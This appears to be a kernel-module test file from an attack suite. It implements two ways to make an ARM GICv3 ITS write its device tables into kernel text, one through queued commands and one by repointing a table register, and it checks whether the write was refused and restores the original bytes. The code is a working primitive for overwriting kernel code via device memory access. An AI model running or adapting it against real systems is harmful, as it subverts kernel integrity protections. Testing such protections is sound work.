// SPDX-License-Identifier: GPL-2.0-only
/*
 * The interrupt translation service of a GICv3 (ARM IHI 0069) told to write its tables into kernel
 * text: by a command that names a table, and by a register that does. What it writes there is
 * taken back at once.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/of.h>
#include <linux/of_address.h>
#include <linux/sizes.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/memory.h>

#include "attack.h"
#include "target.h"

#define CTLR	0x00
#define TYPER	0x08
#define CBASER	0x80
#define CWRITER 0x88
#define CREADR	0x90
#define BASER	0x100
#define ENABLED 1u

#define VALID	   BIT_ULL(63)
#define INDIRECT   BIT_ULL(62)
#define ADDRESS	   GENMASK_ULL(47, PAGE_SHIFT)
#define TYPE(base) ((base) >> 56 & 7)
#define DEVICES	   1 /* of them is the table */
#define SIZE_64K   (2ull << 8)

#define MAPD  0x08ull
#define MAPC  0x09ull
#define MAPTI 0x0aull
#define SYNC  0x05ull

#define ENTRY 8 /* of a table of devices, in bytes */
#define LPI   0x3000ull

static void __iomem *its;
static u64 (*queue)[4]; /* the kernel's */
static u64 queue_size, writer;

/* The first commands that the kernel ever gave; its own record of where they are is static. */
static bool is_queue(const void *at)
{
	u64 word[8];

	return !copy_from_kernel_nofault(word, at, sizeof(word)) && word[0] == MAPC &&
	       !word[1] && (word[2] & VALID) && !word[3] && word[4] == SYNC;
}

static int find_in(unsigned long pfn, unsigned long npages, void *unused)
{
	unsigned long end = pfn + npages, step = SZ_64K / PAGE_SIZE;

	for (pfn = ALIGN(pfn, step); pfn < end && !queue; pfn += step)
		if (pfn_valid(pfn) && is_queue(__va(PFN_PHYS(pfn))))
			queue = __va(PFN_PHYS(pfn));
	return queue ? 1 : 0;
}

static bool find(struct attempt *t)
{
	int (*walk)(unsigned long pfn, unsigned long npages, void *arg,
		    int (*fn)(unsigned long pfn, unsigned long npages, void *arg)) =
		attack_symbol("walk_system_ram_range");
	struct device_node *node = of_find_compatible_node(NULL, NULL, "arm,gic-v3-its");

	if (!its && node)
		its = of_iomap(node, 0);
	of_node_put(node);
	if (!its || !walk)
		return false;
	if (!queue)
		walk(0, PHYS_PFN(BIT_ULL(44)), NULL, find_in);
	queue_size = ((readq(its + CBASER) & 0xff) + 1) * SZ_4K;
	writer = readq(its + CWRITER);
	attack_note(t, "queue %px", queue);
	return queue;
}

static int write_register(u32 offset, u64 value, size_t size)
{
	return target_write((void __force *)its + offset, &value, size);
}

static void command(u64 word0, u64 word1, u64 word2)
{
	u64 *slot = queue[writer / sizeof(*queue)];

	slot[0] = word0;
	slot[1] = word1;
	slot[2] = word2;
	slot[3] = 0;
	writer = (writer + sizeof(*queue)) % queue_size;
}

/* 0, or refused. */
static int commit(void)
{
	int err, i;

	dsb(sy);
	err = write_register(CWRITER, writer, sizeof(u64));
	for (i = 0; i < 100 && !err && readq(its + CREADR) != writer; i++)
		msleep(1);
	return err;
}

/* The kernel has its own idea of how far it is: on to there, by what is in the queue. */
static void turn_round(u64 to)
{
	writer = (to + queue_size / 2) % queue_size;
	commit();
	writer = to;
	commit();
}

/* Did it write there? What was there comes back. */
static enum attack_outcome judge(struct attempt *t, const void *was, size_t size)
{
	struct page *page = pfn_to_page(t->pfn);
	bool changed = *(volatile u32 *)t->va != t->was;
	void *map;

	attack_note(t, "it holds %x", *(volatile u32 *)t->va);
	if (!changed)
		return ATTACK_REFUSED;
	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map || target_write(map + offset_in_page(t->va), was, size))
		return ATTACK_ERROR;
	return ATTACK_SUCCEEDED;
}

/* Where a table of devices has two levels, the second of this one. */
static bool have_second_level(u64 base)
{
	u64 *first = __va(base & ADDRESS);
	struct page *pages;

	if (!(base & INDIRECT) || first[0])
		return true;
	pages = alloc_pages(GFP_KERNEL | __GFP_ZERO, get_order(SZ_64K));
	if (pages)
		first[0] = page_to_phys(pages) | VALID;
	dsb(sy);
	return pages;
}

static u64 devices(u32 *offset)
{
	for (*offset = BASER; *offset < BASER + 64; *offset += 8)
		if (TYPE(readq(its + *offset)) == DEVICES)
			return readq(its + *offset);
	return 0;
}

#define DEVICE 8000ull

/* The entries of one device are to be in the last 256 bytes of text. */
static enum attack_outcome itt(struct attempt *t)
{
	enum attack_outcome outcome = ATTACK_REFUSED;
	u64 entry, event, table, was[2], from; /* an entry has 16 bytes at most */
	u32 offset;
	int err;

	if (target_text(t) || !find(t) || !have_second_level(devices(&offset)))
		return ATTACK_ERROR;
	entry = (readq(its + TYPER) >> 4 & 15) + 1;
	event = 239 / entry;
	t->va += sizeof(u32) - 256 + event * entry;
	t->was = *(u32 *)t->va;
	memcpy(was, t->va, sizeof(was));
	table = __kimg_to_phys((unsigned long)t->va) & ~255ull;
	from = writer;
	command(MAPD | DEVICE << 32, 4, VALID | table);
	command(MAPTI | DEVICE << 32, event | LPI << 32, 0);
	err = commit();
	attack_note(t, "commands for a table at %llx: %d", table, err);
	outcome = judge(t, was, sizeof(was));
	if (err)
		return outcome;
	command(MAPD | DEVICE << 32, 4, 0);
	commit();
	turn_round(from);
	return outcome;
}

/* The table of devices is to be the last 64 KiB of text, of which an entry is written. */
static enum attack_outcome table(struct attempt *t)
{
	enum attack_outcome outcome;
	u64 base, was, end, from;
	u32 offset;
	int err;

	if (target_text(t) || !find(t))
		return ATTACK_ERROR;
	t->va -= sizeof(u32); /* the last entry has eight bytes */
	t->was = *(u32 *)t->va;
	memcpy(&was, t->va, sizeof(was));
	end = __kimg_to_phys((unsigned long)t->va) + ENTRY;
	base = devices(&offset);
	if (!IS_ALIGNED(end, SZ_64K) || (base & SIZE_64K) != SIZE_64K)
		return ATTACK_ERROR;
	from = writer;
	write_register(CTLR, 0, sizeof(u32));
	err = write_register(offset, (base & ~(ADDRESS | INDIRECT | 0xff)) | (end - SZ_64K),
			     sizeof(u64));
	attack_note(t, "register: %d", err);
	command(MAPD | (u64)(SZ_64K / ENTRY - 1) << 32, 4, VALID | __pa(queue));
	write_register(CTLR, ENABLED, sizeof(u32));
	if (!err)
		commit();
	outcome = judge(t, &was, sizeof(was));
	write_register(CTLR, 0, sizeof(u32));
	if (!err)
		write_register(offset, base, sizeof(u64));
	write_register(CTLR, ENABLED, sizeof(u32));
	if (!err)
		turn_round(from);
	return outcome;
}

static const struct attack attacks[] = {
	{
		.name = "its-command",
		.title = "command the ITS to have a device's table in kernel text",
		.gives = "entries of the table in the place of code",
		.asset = "memory access by devices",
		.needs = "ITS",
		.run = itt,
		.look = target_look,
	},
	{
		.name = "its-table",
		.title = "point the ITS's table of devices at kernel text",
		.gives = "entries of the table in the place of code",
		.asset = "memory access by devices",
		.needs = "ITS",
		.run = table,
		.look = target_look,
	},
};

const struct attack_table arm_its_table = { attacks, ARRAY_SIZE(attacks) };
